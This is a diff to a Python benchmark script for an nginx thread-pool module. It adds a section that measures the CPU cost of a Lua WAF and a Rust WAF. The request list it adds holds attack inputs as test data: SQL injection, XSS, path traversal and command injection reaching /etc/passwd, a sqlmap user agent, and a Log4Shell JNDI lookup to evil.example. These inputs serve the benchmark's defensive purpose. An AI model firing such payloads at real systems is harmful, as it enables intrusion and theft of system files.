@@ -10,6 +10,8 @@ only), runs five sections and writes bench/REPORT.md and bench/*.png
   policy      the same under each thread_pool_scheduling setting
   throughput  the sort handler's requests/s by concurrent connections
   memory      worker RSS by pool threads, idle and after many tasks
+  waf         CPU per request of the WAF: Lua + PCRE (inline, in a pool)
+              against the Rust WAF on the regex crate (in a pool)
 
 Every loop is bounded in count and time. QUICK=1 (or --quick) runs a
 ~1 minute smoke version; the full run takes ~14 minutes.
@@ -40,6 +42,10 @@ NGINX = "/usr/sbin/nginx"
 WRK = "wrk"
 WRK_SCRIPT = BENCH / "wrk_json.lua"
 WAF_FILES = (REPO / "nginx-conf/waf.lua", REPO / "nginx-conf/waf_rules.lua")
+WAF_RULES = REPO / "nginx-conf/waf_rules.lua"
+# The Rust WAF as a pool handler (examples/waf-rust, src/handler.rs).
+WAF_RUST_LIB = REPO / "target/release/libwaf_rust.so"
+WRK_WAF_SCRIPT = BENCH / "wrk_waf.lua"
 
 VARIANTS = ("inline", "rwt", "tp")
 # The hand-off section also runs push_tasks, 16 tasks per call; for large
@@ -52,7 +58,35 @@ PAYLOADS = ("16", "1024", "65536", "1048576", "table")
 HANDOFF_C = (1, 8, 64)
 THROUGHPUT_C = (1, 8, 32, 128)
 MEMORY_THREADS = (0, 1, 4, 16)
-SECTIONS = ("handoff", "hol", "policy", "throughput", "memory")
+SECTIONS = ("handoff", "hol", "policy", "throughput", "memory", "waf")
+# The WAF cell's variants: none builds the request table and scans nothing
+# (the cost around the scan), inline is the Lua WAF on the event loop, tp
+# the Lua WAF in a pool, rust the Rust WAF in a pool.
+WAF_VARIANTS = ("none", "inline", "tp", "rust")
+WAF_C = 8
+# The WAF cell's requests, sent in turn: (method, path and query, headers,
+# body); benign and malicious as in the test corpus (tests/waf_corpus/).
+WAF_REQUESTS = [
+    ("GET", "/products?category=shoes&size=42", {}, ""),
+    ("GET", "/search?q=how+to+select+a+good+laptop", {}, ""),
+    ("GET", "/search?q=Tom+%26+Jerry%27s+adventures", {"Accept-Language": "en-US,en;q=0.9"}, ""),
+    ("GET", "/static/css/site.min.css?v=1.2.3", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; "
+                                                  "rv:109.0) Gecko/20100101 Firefox/115.0"}, ""),
+    ("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded"},
+     "user=alice&password=S3cr3t%21pass"),
+    ("POST", "/items", {"Content-Type": "application/json"},
+     '{"name":"Widget","price":9.99,"tags":["a","b"]}'),
+    ("POST", "/comments", {"Content-Type": "application/x-www-form-urlencoded"},
+     "text=" + "Great+article%21+I+learned+a+lot+about+joins+and+select+statements.+" * 40),
+    ("GET", "/item?q=1%27+OR+%271%27%3D%271", {}, ""),
+    ("GET", "/item?id=1+UNION+SELECT+username%2C+password+FROM+users", {}, ""),
+    ("GET", "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", {}, ""),
+    ("GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, ""),
+    ("GET", "/ping?host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd", {}, ""),
+    ("GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, ""),
+    ("GET", "/.git/config", {}, ""),
+    ("GET", "/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}, ""),
+]
 # thread_pool_scheduling settings compared under the sort load.
 POLICIES = ("normal nice=0", "normal nice=5", "normal nice=19", "batch nice=5", "idle")
 SORT_N = 20000
@@ -64,10 +98,10 @@ WAF_QUERY = ("user=alice&q=select+name+from+users+where+id%3D1&page=2"
 PLANS = {
     "full": dict(handoff_rounds=5, handoff_ms=1000, warmup_ms=300,
                  hol_rounds=2, hol_secs=5, tput_rounds=2, tput_secs=5,
-                 mem_tasks=100000),
+                 mem_tasks=100000, waf_rounds=3, waf_secs=5),
     "quick": dict(handoff_rounds=1, handoff_ms=200, warmup_ms=100,
                   hol_rounds=1, hol_secs=1, tput_rounds=1, tput_secs=2,
-                  mem_tasks=20000),
+                  mem_tasks=20000, waf_rounds=1, waf_secs=1),
 }
 
 
@@ -112,24 +146,25 @@ def thread_count(pid):
     return len(os.listdir(f"/proc/{pid}/task"))
 
 
+def thread_cpu_us(pid, tid):
+    """CPU time of thread tid of pid, in µs: the scheduler's run time
+    (schedstat, in ns), or where that is missing user + system time (stat,
+    10 ms ticks); 0 once the thread is gone."""
+    task = f"/proc/{pid}/task/{tid}"
+    try:
+        return int(Path(f"{task}/schedstat").read_text().split()[0]) / 1000
+    except (OSError, ValueError, IndexError):
+        pass
+    fields = stat_fields(f"{task}/stat")
+    if not fields:
+        return 0.0
+    return (int(fields[11]) + int(fields[12])) * 1e6 / os.sysconf("SC_CLK_TCK")
+
+
 def pool_threads_cpu_us(pid):
-    """CPU time of pid's threads but the main one (the event loop), in µs:
-    the scheduler's run time of each (schedstat, in ns), or where that is
-    missing user + system time (stat, 10 ms ticks)."""
-    total = 0.0
-    for tid in os.listdir(f"/proc/{pid}/task"):
-        if int(tid) == pid:
-            continue
-        task = f"/proc/{pid}/task/{tid}"
-        try:
-            total += int(Path(f"{task}/schedstat").read_text().split()[0]) / 1000
-            continue
-        except (OSError, ValueError, IndexError):
-            pass
-        fields = stat_fields(f"{task}/stat")
-        if fields:
-            total += (int(fields[11]) + int(fields[12])) * 1e6 / os.sysconf("SC_CLK_TCK")
-    return total
+    """CPU time of pid's threads but the main one (the event loop), in µs."""
+    return sum(thread_cpu_us(pid, tid) for tid in os.listdir(f"/proc/{pid}/task")
+               if int(tid) != pid)
 
 
 def others_cpu_s(pid):
@@ -141,6 +176,13 @@ def others_cpu_s(pid):
     return (busy - int(fields[11]) - int(fields[12])) / os.sysconf("SC_CLK_TCK")
 
 
+# The WAF cell's pools and their handlers ({repo}: the source tree).
+WAF_HANDLERS = {
+    "waf_lua": "thread_pool_process_by_lua_file waf_lua {repo}/nginx-conf/waf.lua;",
+    "waf_rust": f"thread_pool_process_by_rust waf_rust {WAF_RUST_LIB} {WAF_RULES};",
+}
+
+
 class Nginx:
     """One nginx under bench/out/NAME: started on a free loopback port,
     stopped (QUIT, then TERM, then KILL) on exit from the with block. Its
@@ -150,7 +192,7 @@ class Nginx:
     last = None  # the last nginx started: its versions and logs for the report
 
     def __init__(self, name, tp_threads=2, rwt_threads=2, scheduling=None,
-                 copying_pool=False, tree=REPO, module=MODULE):
+                 copying_pool=False, waf_pools=(), tree=REPO, module=MODULE):
         self.name = name
         self.prefix = OUT / name
         self.port = free_port()
@@ -173,6 +215,9 @@ class Nginx:
                 handler += "\nthread_pool_zero_copy tpc off;"
             if scheduling:
                 handler += f"\nthread_pool_scheduling tp {scheduling};"
+        for pool in waf_pools:
+            pools.append(f"thread_pool {pool} threads={tp_threads or 2};")
+            handler += "\n" + WAF_HANDLERS[pool].format(repo=tree)
         conf = (tree / "bench/nginx.conf.tmpl").read_text()
         for key, value in (("MODULE", str(module)), ("REPO", str(tree)),
                            ("PORT", str(self.port)),
@@ -247,12 +292,12 @@ class Nginx:
         return self.proc.poll() is None and self.worker in children(self.proc.pid)
 
 
-def wrk_start(url, conns, secs):
+def wrk_start(url, conns, secs, script=WRK_SCRIPT, env=None):
     threads = 1 if conns < 8 else 2
     cmd = [WRK, "-t", str(threads), "-c", str(conns), "-d", f"{secs}s",
-           "--timeout", "10s", "-s", str(WRK_SCRIPT), url]
-    return subprocess.Popen(cmd, stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True)
+           "--timeout", "10s", "-s", str(script), url]
+    return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, env=env and {**os.environ, **env})
 
 
 def wrk_wait(proc, secs):
@@ -498,6 +543,80 @@ def section_memory(plan, res):
     res["memory"] = dict(rows=rows, tasks=tasks, log=logs)
 
 
+def lua_string(s):
+    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
+
+
+def write_waf_requests(path, variant):
+    """WAF_REQUESTS to /wafcpu/VARIANT/, as the Lua file wrk_waf.lua reads."""
+    lines = ["return {"]
+    for method, target, headers, body in WAF_REQUESTS:
+        h = ", ".join(f"[{lua_string(k)}] = {lua_string(v)}" for k, v in headers.items())
+        lines.append(f"  {{ {lua_string(method)}, {lua_string(f'/wafcpu/{variant}' + target)}, "
+                     f"{{ {h} }}, {lua_string(body) if body else 'nil'} }},")
+    path.write_text("\n".join(lines + ["}"]) + "\n")
+
+
+def waf_cell(ng, variant, secs):
+    """wrk on the WAF requests for `variant` (WAF_C connections), with the
+    worker's CPU time per request: its main thread (the event loop) and
+    its other threads (the pools), from schedstat."""
+    requests = OUT / f"waf_requests_{variant}.lua"
+    write_waf_requests(requests, variant)
+    pid = ng.worker
+    loop0, threads0 = thread_cpu_us(pid, pid), pool_threads_cpu_us(pid)
+    r = wrk_wait(wrk_start(ng.url("/"), WAF_C, secs, WRK_WAF_SCRIPT,
+                           {"BENCH_WRK_JSON": str(WRK_SCRIPT),
+                            "BENCH_WAF_REQUESTS": str(requests)}), secs)
+    n = r["requests"] or 1
+    r["loop_us"] = (thread_cpu_us(pid, pid) - loop0) / n
+    r["threads_us"] = (pool_threads_cpu_us(pid) - threads0) / n
+    return r
+
+
+def section_waf(plan, res):
+    """CPU per request of the WAF variants (WAF_VARIANTS), rounds
+    alternating. The Lua variants share one nginx; the Rust WAF runs in
+    one of its own, skipped (with the reason in the report) when its
+    library is not built or the module has no thread_pool_process_by_rust."""
+    secs = plan["waf_secs"]
+    runs, skipped = {}, {}
+    with contextlib.ExitStack() as stack:
+        ngs = {}
+        lua = stack.enter_context(Nginx("waf-lua", rwt_threads=0, waf_pools=("waf_lua",)))
+        for v in ("none", "inline", "tp"):
+            ngs[v] = lua
+        if not WAF_RUST_LIB.exists():
+            skipped["rust"] = (f"{WAF_RUST_LIB.relative_to(REPO)} is not built "
+                               "(cargo build --release -p waf-rust, once handler/ is in "
+                               "the workspace)")
+        else:
+            try:
+                ngs["rust"] = stack.enter_context(
+                    Nginx("waf-rust", rwt_threads=0, waf_pools=("waf_rust",)))
+            except RuntimeError as e:
+                skipped["rust"] = f"its nginx did not start: {e}"
+        for v in skipped:
+            log(f"waf: variant {v} skipped: {skipped[v]}")
+        variants = [v for v in WAF_VARIANTS if v in ngs]
+        for v in variants:
+            waf_cell(ngs[v], v, 1)
+        for ng in set(ngs.values()):
+            ng.errors()
+        for rnd in range(plan["waf_rounds"]):
+            log(f"waf round {rnd + 1}/{plan['waf_rounds']}")
+            for v in rotated(variants, rnd):
+                runs.setdefault(v, []).append(waf_cell(ngs[v], v, secs))
+        errors = {}
+        for ng in set(ngs.values()):
+            for k, n in ng.errors().items():
+                errors[k] = errors.get(k, 0) + n
+        alive = all(ng.alive() for ng in ngs.values())
+    res["waf"] = dict(runs=runs, skipped=skipped, errors=errors, alive=alive,
+                      requests=len(WAF_REQUESTS), connections=WAF_C,
+                      log=[line for ng in set(ngs.values()) for line in ng.problems()])
+
+
 def machine():
     def run(cmd):
         try:
@@ -555,7 +674,8 @@ def main():
                  hol=lambda: section_hol(plan, res, workloads),
                  policy=lambda: section_policy(plan, res),
                  throughput=lambda: section_throughput(plan, res),
-                 memory=lambda: section_memory(plan, res))
+                 memory=lambda: section_memory(plan, res),
+                 waf=lambda: section_waf(plan, res))
     failed = False
     for s in sections:
         log(f"section {s}")
